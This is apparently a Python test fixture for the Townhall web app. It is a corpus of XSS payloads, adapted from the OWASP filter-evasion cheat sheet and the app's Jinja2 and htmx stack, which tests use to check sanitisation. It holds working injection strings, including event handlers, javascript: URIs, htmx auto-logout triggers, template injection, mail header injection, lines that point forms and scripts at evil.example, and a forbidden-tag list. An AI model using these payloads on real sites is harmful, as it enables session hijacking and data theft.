"""An XSS corpus: OWASP filter-evasion payloads and the tricks aimed at this app's own stack.

Every payload is text an attacker can put in a post (its text, author, group, address …).
Written from the OWASP XSS Filter Evasion Cheat Sheet and from what Townhall uses: Jinja2
templates, htmx attributes (``hx-get``, ``hx-on:click`` …), Markdown-looking text, e-mail and
chat bodies. ``PAYLOADS`` is the list the tests push through ingest and every connector.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One attack string and a short name for it (the name shows in test ids and failures)."""

    name: str
    text: str


_LONG = "A" * 6000
_LONG_URL = "javascript:alert(1)//" + "x" * 3000

CORPUS: tuple[Payload, ...] = (
    # -- plain script and event handlers -----------------------------------------------------
    Payload("script", "<script>alert('xss-script')</script>"),
    Payload("script-src", '<script src="https://evil.example/x.js"></script>'),
    Payload("script-case", "<ScRiPt>alert(1)</sCrIpT>"),
    Payload("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Payload("img-onerror", "<img src=x onerror=alert('xss-img')>"),
    Payload("img-onerror-quoted", '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">'),
    Payload("img-backtick", "<img src=x onerror=alert`1`>"),
    Payload("img-slash", '<img/src="x"/onerror=alert(1)>'),
    Payload("body-onload", "<body onload=alert(1)>"),
    Payload("svg-onload", "<svg onload=alert('xss-svg')>"),
    Payload("svg-slash", "<svg/onload=alert(1)//"),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("svg-animate", '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'),
    Payload("svg-href", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a>'),
    Payload("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Payload("details", "<details open ontoggle=alert(1)>"),
    Payload("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    Payload("video", "<video><source onerror=alert(1)></video>"),
    Payload("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    # -- frames and documents -----------------------------------------------------------------
    Payload("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Payload("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    Payload("object", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>"),
    Payload("embed", '<embed src="data:text/html,<script>alert(1)</script>">'),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    Payload("base-href", '<base href="https://evil.example/">'),
    Payload("form-action", '<form action="https://evil.example/steal"><input name=p></form>'),
    Payload("button-formaction", '<button formaction="javascript:alert(1)">Go</button>'),
    Payload("link-import", '<link rel=import href="https://evil.example/x.html">'),
    # -- links and schemes --------------------------------------------------------------------
    Payload("a-js", '<a href="javascript:alert(1)">click me</a>'),
    Payload("a-js-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    Payload("a-js-entity", '<a href="&#106;avascript:alert(1)">click</a>'),
    Payload("a-js-hex", '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">click</a>'),
    Payload("a-js-tab", '<a href="jav\tascript:alert(1)">click</a>'),
    Payload("a-data", '<a href="data:text/html,<script>alert(1)</script>">data</a>'),
    Payload("bare-js", "javascript:alert(document.cookie)"),
    Payload("bare-data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    Payload("markdown-js", "[click here](javascript:alert(1)) and ![x](javascript:alert(2))"),
    Payload("markdown-data", "[x](data:text/html,<script>alert(1)</script>)"),
    # -- breaking out of attributes and elements -------------------------------------------------
    Payload("attr-double", '" onmouseover="alert(1)" x="'),
    Payload("attr-single", "' onmouseover='alert(1)' x='"),
    Payload("attr-close", "'><script>alert(1)</script>"),
    Payload("attr-close-double", '"><img src=x onerror=alert(1)>'),
    Payload("backticks", "`-alert(1)-`${alert(2)}"),
    Payload("textarea-close", "</textarea><script>alert(1)</script>"),
    Payload("title-close", "</title><script>alert(1)</script>"),
    Payload("style-close", "</style><script>alert(1)</script>"),
    Payload("script-close", "</script><script>alert(1)</script>"),
    Payload("comment", "<!--<img src=x onerror=alert(1)>-->"),
    Payload("comment-break", "--><script>alert(1)</script><!--"),
    Payload("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Payload("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;"),
    Payload("js-string", "';alert(1);//\";alert(2);//</script>"),
    # -- template injection ---------------------------------------------------------------------
    Payload("jinja-expr", "{{7*7}} {{ config }} {{ ''.__class__.__mro__ }}"),
    Payload("jinja-raw", "{% raw %}{{ 7*7 }}{% endraw %} {% for x in range(3) %}x{% endfor %}"),
    Payload("js-template", "${7*7} #{7*7} <%= 7*7 %>"),
    # -- htmx ---------------------------------------------------------------------------------
    Payload("hx-get", '<div hx-get="/logout" hx-trigger="load">x</div>'),
    Payload("hx-post", '<button hx-post="/inbox/bulk" hx-trigger="load">go</button>'),
    Payload("hx-on", "<div hx-on:click=\"alert(1)\" hx-on::load=\"alert(2)\">x</div>"),
    Payload("hx-trigger", '<span hx-get="https://evil.example" hx-trigger="every 1s">x</span>'),
    Payload("hx-vals", "<div hx-post=\"/compose\" hx-vals='{\"text\": \"pwned\"}'>x</div>"),
    Payload("data-hx", '<div data-hx-get="/logout" data-hx-trigger="load">x</div>'),
    Payload("hx-swap-oob", '<div id="notice" hx-swap-oob="true">You have been logged out</div>'),
    Payload("hx-attr-break", '" hx-get="/logout" hx-trigger="load" x="'),
    # -- CSS ----------------------------------------------------------------------------------
    Payload("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    Payload("style-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    Payload("style-tag", "<style>body{display:none}</style>"),
    Payload("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    # -- Unicode tricks -----------------------------------------------------------------------
    Payload("bidi-override", "Refund \u202egnp.exe\u202c here"),
    Payload("bidi-isolates", "\u2066admin\u2069 \u2067ACME\u2069 \u2068x\u2069"),
    Payload("bidi-marks", "\u200fmark\u200e \u202aembed\u202b"),
    Payload("zero-width", "ja\u200bva\u200cscr\u200dipt:alert(1) \ufeffBOM"),
    Payload("control-chars", "bell\x07 esc\x1b[31mred\x1b[0m back\x08 del\x7f vt\x0b ff\x0c"),
    Payload("c1-controls", "next\x85line csi\x9b31m"),
    Payload("line-breaks", "line\u2028separator\u2029paragraph\r\nCRLF"),
    Payload("fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    Payload("combining", "Z\u0351\u0352\u0353\u0354\u0355\u0356a\u0357\u0358\u0359lgo"),
    Payload("emoji-zwj", "\U0001f468\u200d\U0001f469\u200d\U0001f467 family"),
    # -- mail and chat --------------------------------------------------------------------------
    Payload("header-injection", "subject\r\nBcc: victim@evil.example\r\n\r\nbody"),
    Payload("slack-mention", "<!channel> <!here> <@U123|admin> <https://evil.example|acme.com>"),
    # -- size -----------------------------------------------------------------------------------
    Payload("long-token", _LONG),
    Payload("long-js-url", _LONG_URL),
    Payload("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a"
            "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(p.text for p in CORPUS)
"""The attack strings alone."""

SHORT: tuple[str, ...] = tuple(p for p in PAYLOADS if len(p) <= 300)
"""Payloads short enough for a name or a handle (the Post format caps those)."""

TAGS: tuple[str, ...] = (
    "script", "iframe", "object", "embed", "base", "meta", "form", "style", "link", "svg",
    "math", "video", "audio", "source", "marquee", "details", "input", "button", "textarea",
)  # fmt: skip
"""Elements no post may bring into a page (the app's own are told apart by the tests)."""
